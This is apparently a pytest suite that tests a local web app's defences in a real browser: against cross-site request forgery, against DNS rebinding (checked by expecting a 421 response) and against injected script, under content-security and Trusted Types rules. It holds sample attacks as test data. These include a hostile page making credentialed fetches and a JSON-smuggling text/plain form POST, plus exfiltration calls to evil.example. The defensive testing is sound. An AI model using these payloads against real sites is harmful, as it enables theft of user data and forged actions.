"""Attacks from within a real browser that has opened the page: by another site, by a name that was bound to this
machine, and by a script that got into the page."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from browser import Server, Tab, Tabs

EVIL = """<!doctype html><title>evil</title><body><script>
window.done = (async () => {
  const top = TOP, said = {};
  const tries = {
    read: () => fetch(top + '/api/status', {credentials: 'include'}),
    blind: () => fetch(top + '/api/status', {credentials: 'include', mode: 'no-cors'}),
    write: () => fetch(top + '/api/undo', {method: 'POST', credentials: 'include', body: PLAN,
      headers: {'Content-Type': 'application/json', 'X-Quire': '1'}}),
    plain: () => fetch(top + '/api/undo', {method: 'POST', credentials: 'include', mode: 'no-cors', body: PLAN}),
    beacon: async () => ({type: navigator.sendBeacon(top + '/api/undo', PLAN) ? 'sent' : 'no'}),
  };
  for (const [name, act] of Object.entries(tries)) {
    try {
      const answer = await act();
      said[name] = ['opaque', 'sent'].includes(answer.type) ? 'nothing to read' : await answer.text();
    } catch (error) { said[name] = 'failed'; }
  }
  const loaded = (element) => new Promise((tell) => {
    element.onload = () => tell('loaded');
    element.onerror = () => tell('failed');
    setTimeout(() => tell('failed'), 3000);
    document.body.append(element);
  });
  const made = (tag, more) => Object.assign(document.createElement(tag), more);
  said.script = await loaded(made('script', {src: top + '/api/status'}));
  said.image = await loaded(made('img', {src: top + '/file?path=logo.png&at=seq:9'}));
  said.style = await loaded(made('link', {rel: 'stylesheet', href: top + '/'}));
  const feed = new EventSource(top + '/api/live', {withCredentials: true});
  said.feed = await new Promise((tell) => { feed.onopen = () => tell('open'); feed.onerror = () => tell('failed'); });
  feed.close();
  const frame = made('iframe', {src: top + '/', name: 'frame'});
  await loaded(frame);
  said.frame = frame.contentDocument ? frame.contentDocument.body.innerText : 'failed';
  const form = made('form', {method: 'post', action: top + '/api/undo', target: 'frame', enctype: 'text/plain'});
  form.append(made('input', {name: PLAN.slice(0, -1) + ',"x":"', value: '"}'}));
  document.body.append(form);
  form.submit();
  await new Promise((tell) => setTimeout(tell, 300));
  return said;
})();
</script>"""

PLAN = json.dumps({"plan": True, "writer": "*"})


@pytest.fixture
def evil(server: Server) -> Iterator[str]:
    """The address of another site on this machine, which knows that of the page."""
    html = EVIL.replace("TOP", json.dumps(server.top)).replace("PLAN", json.dumps(PLAN)).encode()

    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html)

        def log_message(self, *_: object) -> None:
            """Nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site) as site:
        thread = threading.Thread(target=site.serve_forever)
        thread.start()
        yield f":{site.server_port}/"
        site.shutdown()
        thread.join()


def forgiven(tab: Tab) -> Tab:
    """What a browser says of attacks is no fault of the page."""
    tab.forgiving = True
    return tab


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "evil.example", "other.localhost", "the page's"])
def test_another_site_reads_nothing_writes_nothing_and_frames_nothing(
    server: Server, tab: Tabs, evil: str, host: str
) -> None:
    one = forgiven(tab(server))
    one.page.locator(".story").first.wait_for()
    asks = server.site.connect()
    before = asks.status()["seq"]
    page = one.context.new_page()
    name = urlsplit(server.top).hostname if host == "the page's" else host
    page.goto(f"http://{name}{evil}")
    said = page.evaluate("() => window.done")
    assert {name: told for name, told in said.items() if told not in ("failed", "nothing to read")} == {}
    assert asks.status()["seq"] == before
    page.close()


def test_a_name_that_was_bound_to_this_machine_is_answered_with_421(server: Server, tab: Tabs) -> None:
    one = forgiven(tab(server))
    port = urlsplit(server.top).port
    page = one.context.new_page()
    for host in ("evil.example", "localhost", "127.0.0.1", "other.localhost"):
        answer = page.goto(f"http://{host}:{port}/api/status")
        assert answer is not None
        assert (host, answer.status) == (host, 421)
        assert "workspace" not in answer.text()
    page.close()


WITHIN = {
    "markup": "document.body.innerHTML = '<b>x</b>'",
    "a written document": "document.write('x')",
    "a parsed document": "new DOMParser().parseFromString('<b>x', 'text/html')",
    "eval": "setTimeout('window.hurt = 1')",
    "a policy": "trustedTypes.createPolicy('x', {createHTML: (text) => text})",
    "a script of elsewhere": "Object.assign(document.createElement('script'), {src: 'http://evil.example/x.js'})",
    "a worker of the page": "new Worker('/file?path=app/main.py&at=seq:1')",
}


@pytest.mark.parametrize("what", WITHIN)
def test_a_script_that_got_into_the_page_makes_no_other(server: Server, tab: Tabs, what: str) -> None:
    page = forgiven(tab(server)).page
    attempt = f"(() => {{ try {{ {WITHIN[what]}; return 'done'; }} catch (error) {{ return error.name; }} }})()"
    assert page.evaluate(attempt) in ("TypeError", "EvalError", "SecurityError")
    assert page.evaluate("() => window.hurt") is None


def test_a_script_that_got_into_the_page_tells_nobody_and_stays_not(server: Server, tab: Tabs) -> None:
    """It may ask what the reader may ask; it sends nothing away, sees no cookie, and leaves no worker behind."""
    one = forgiven(tab(server))
    page = one.page
    failed = "(act) => act().then(() => 'done', (error) => error.name)"
    for act in (
        "fetch('http://evil.example/?stolen')",
        "fetch('http://127.0.0.1:9/', {mode: 'no-cors'})",
        "navigator.serviceWorker.register('/' + document.querySelector('script').src.split('/').pop())",
        "new Promise((good, bad) => { const one = new Image(); one.onload = good;"
        " one.onerror = () => bad(new Error('x')); one.src = 'http://evil.example/x.png'; })",
    ):
        assert page.evaluate(f"() => ({failed})(() => {act})") != "done", act
    assert page.evaluate("() => document.cookie") == ""
    assert page.evaluate("() => navigator.serviceWorker.getRegistrations().then((all) => all.length)") == 0
    one.strange.clear()
